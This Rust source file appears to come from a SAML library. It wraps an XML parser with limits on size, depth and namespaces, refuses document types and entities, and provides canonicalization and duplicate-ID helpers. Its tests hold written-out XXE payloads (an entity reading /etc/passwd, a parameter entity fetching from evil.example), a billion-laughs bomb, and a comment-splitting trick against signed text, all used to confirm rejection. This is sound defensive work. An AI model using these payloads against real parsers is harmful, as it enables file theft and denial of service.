//! XML of others: bounded, without document types, and read by one parser, whether it is to be verified or believed (checklist 6).
use std::collections::HashSet;

use bergshamra_c14n::{C14nMode, canonicalize_doc};
use bergshamra_xml::nodeset::{NodeIdSet, NodeSet, NodeSetType};
use uppsala::{Document, Element, NodeId, NodeKind, Parser};

/// The longest document that is read, in bytes.
pub const MOST: usize = 256 * 1024;
const DEPTH: u32 = 40;
/// Names are looked up in what was declared: their product is what a document costs.
const DECLARATIONS: usize = 4_000;

pub const ASSERTION: &str = "urn:oasis:names:tc:SAML:2.0:assertion";
pub const PROTOCOL: &str = "urn:oasis:names:tc:SAML:2.0:protocol";
pub const METADATA: &str = "urn:oasis:names:tc:SAML:2.0:metadata";
pub const DSIG: &str = "http://www.w3.org/2000/09/xmldsig#";
pub const XENC: &str = "http://www.w3.org/2001/04/xmlenc#";
pub const XENC11: &str = "http://www.w3.org/2009/xmlenc11#";
pub const EXCLUSIVE: &str = "http://www.w3.org/2001/10/xml-exc-c14n#";

/// Reads a document. A document type is refused before anything is read, so that there are no entities but the five of XML.
pub fn parse(text: &str) -> Result<Document<'_>, &'static str> {
    if text.len() > MOST {
        return Err("it is longer than 256 KiB");
    }
    if text.contains("<!DOCTYPE") || text.contains("<!ENTITY") {
        return Err("it has a document type, which is not read");
    }
    if text.matches("xmlns").count() > DECLARATIONS {
        return Err("it declares too many namespaces");
    }
    let parser = Parser::new().with_max_depth(DEPTH).with_forbid_dtd(true).with_forbid_entities(true);
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    let doc = parser.parse(text).map_err(|_| "it is no well-formed XML")?;
    if doc.document_element().is_none() {
        return Err("it is no well-formed XML");
    }
    Ok(doc)
}

/// An element of a document.
#[derive(Clone, Copy)]
pub struct Node<'d> {
    doc: &'d Document<'d>,
    id: NodeId,
}
impl<'d> Node<'d> {
    /// The outermost.
    pub fn root(doc: &'d Document<'d>) -> Option<Self> {
        doc.document_element().map(|id| Self { doc, id })
    }
    fn element(self) -> Option<&'d Element<'d>> {
        self.doc.element(self.id)
    }
    /// Is it of this name?
    pub fn is(self, namespace: &str, name: &str) -> bool {
        self.element().is_some_and(|e| e.matches_name_ns(namespace, name))
    }
    /// The elements in it.
    pub fn children(self) -> impl Iterator<Item = Self> {
        let Self { doc, id } = self;
        doc.children_iter(id).map(move |id| Self { doc, id }).filter(|n| n.element().is_some())
    }
    /// Those of this name.
    pub fn all(self, namespace: &'d str, name: &'d str) -> impl Iterator<Item = Self> {
        self.children().filter(move |n| n.is(namespace, name))
    }
    /// The one of this name: none if there are several, too.
    pub fn one(self, namespace: &'d str, name: &'d str) -> Option<Self> {
        let mut all = self.all(namespace, name);
        match (all.next(), all.next()) {
            (Some(one), None) => Some(one),
            _ => None,
        }
    }
    /// Is there none of this name?
    pub fn lacks(self, namespace: &'d str, name: &'d str) -> bool {
        self.all(namespace, name).next().is_none()
    }
    /// Every element in it, however deep, and itself.
    pub fn every(self) -> Vec<Self> {
        let (mut out, mut waiting) = (vec![], vec![self]);
        while let Some(n) = waiting.pop() {
            waiting.extend(n.children());
            out.push(n);
        }
        out
    }
    /// An attribute without a namespace.
    pub fn attribute(self, name: &str) -> Option<&'d str> {
        let own = |a: &&uppsala::Attribute<'_>| a.name.namespace_uri.is_none() && a.name.local_name == name;
        self.element()?.attributes.iter().find(own).map(|a| &*a.value)
    }
    /// Its text, without white space around it: all of it, as a signature sees it, whatever comments stand between (checklist 6). None if
    /// there is anything but text.
    pub fn text(self) -> Option<String> {
        let mut out = String::new();
        for id in self.doc.children_iter(self.id) {
            match self.doc.node_kind(id)? {
                NodeKind::Text(t) | NodeKind::CData(t) => out.push_str(t),
                NodeKind::Comment(_) => {}
                _ => return None,
            }
        }
        Some(out.trim().to_owned())
    }
    /// Do two elements of it have the same id?
    pub fn repeats_an_id(self) -> bool {
        let mut seen = HashSet::new();
        let every = self.every();
        let ids = every.iter().filter_map(|n| n.element()).flat_map(|e| &e.attributes);
        ids.filter(|a| a.name.local_name.eq_ignore_ascii_case("id")).any(|a| !seen.insert(&*a.value))
    }
    /// Its exclusive canonical form without comments, and without what is in `but`.
    pub fn canonical(self, but: Option<Self>, prefixes: &[&str]) -> Option<Vec<u8>> {
        let mut ids = NodeIdSet::default();
        let mut waiting = vec![self.id];
        while let Some(id) = waiting.pop() {
            if but.is_some_and(|b| b.id == id) || matches!(self.doc.node_kind(id), Some(NodeKind::Comment(_))) {
                continue;
            }
            ids.insert(id.index());
            waiting.extend(self.doc.children_iter(id));
        }
        let set = NodeSet::from_ids(ids, NodeSetType::Normal);
        canonicalize_doc(self.doc, C14nMode::Exclusive, Some(&set), prefixes).ok()
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used, reason = "a failed test may panic")]
mod tests {
    use super::*;

    #[test]
    fn sec_06_bombs_and_entities_are_refused_before_they_are_read() {
        let laughs = r#"<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><l>&b;</l>"#;
        let outside = r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#;
        let parameter = r#"<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x">%x;]><r/>"#;
        for bad in [laughs, outside, parameter, "<!DOCTYPE r><r/>", "<r>&x;</r>", "<r", "", "text", "<a/><b/>"] {
            assert!(parse(bad).is_err(), "{bad}");
        }
        assert!(parse(&format!("{}{}", "<a>".repeat(41), "</a>".repeat(41))).is_err(), "too deep");
        assert!(parse(&format!("{}{}", "<a>".repeat(40), "</a>".repeat(40))).is_ok());
        assert!(parse(&format!("<a>{}</a>", "x".repeat(MOST))).is_err(), "too long");
        let many: String = (0..5_000).map(|n| format!(" xmlns:a{n}=\"b\"")).collect();
        assert!(parse(&format!("<a{many}/>")).is_err(), "too many names");
    }

    #[test]
    fn sec_06_a_comment_cuts_no_text() {
        let text = |xml: &str| Node::root(&parse(xml).unwrap()).unwrap().text();
        let whole = Some("admin@corp.example.evil.example".to_owned());
        assert_eq!(text("<n>admin@corp.example<!-- x -->.evil.example</n>"), whole);
        assert_eq!(text("<n> admin@corp.example<![CDATA[.evil.example]]>\n</n>"), whole);
        assert_eq!(text("<n>admin@corp.example<x/>.evil.example</n>"), None);
        assert_eq!(text("<n>admin@corp.example<?x y?>.evil.example</n>"), None);
        assert_eq!(text("<n/>").as_deref(), Some(""));
    }

    #[test]
    fn what_is_canonical_leaves_out_what_it_is_told_to() {
        let xml =
            r#"<a xmlns:x="urn:x" xmlns:y="urn:y"><x:b ID="1" A="&#13;"><!-- c --><x:c/>t<d xmlns=""/></x:b></a>"#;
        let doc = parse(xml).unwrap();
        let b = Node::root(&doc).unwrap().children().next().unwrap();
        let text = |v: Vec<u8>| String::from_utf8(v).unwrap();
        let whole = r#"<x:b xmlns:x="urn:x" A="&#xD;" ID="1"><x:c></x:c>t<d></d></x:b>"#;
        assert_eq!(text(b.canonical(None, &[]).unwrap()), whole);
        assert_eq!(
            text(b.canonical(b.one("urn:x", "c"), &["y"]).unwrap()),
            r#"<x:b xmlns:x="urn:x" xmlns:y="urn:y" A="&#xD;" ID="1">t<d></d></x:b>"#
        );
        assert_eq!(b.text(), None);
    }

    #[test]
    fn an_id_that_is_there_twice_is_seen_however_it_is_spelled() {
        let repeats = |xml: &str| Node::root(&parse(xml).unwrap()).unwrap().repeats_an_id();
        assert!(repeats(r#"<a ID="x"><b ID="x"/></a>"#) && repeats(r#"<a ID="x"><b><c xml:id="x"/></b></a>"#));
        assert!(!repeats(r#"<a ID="x"><b ID="y"/></a>"#));
    }
}
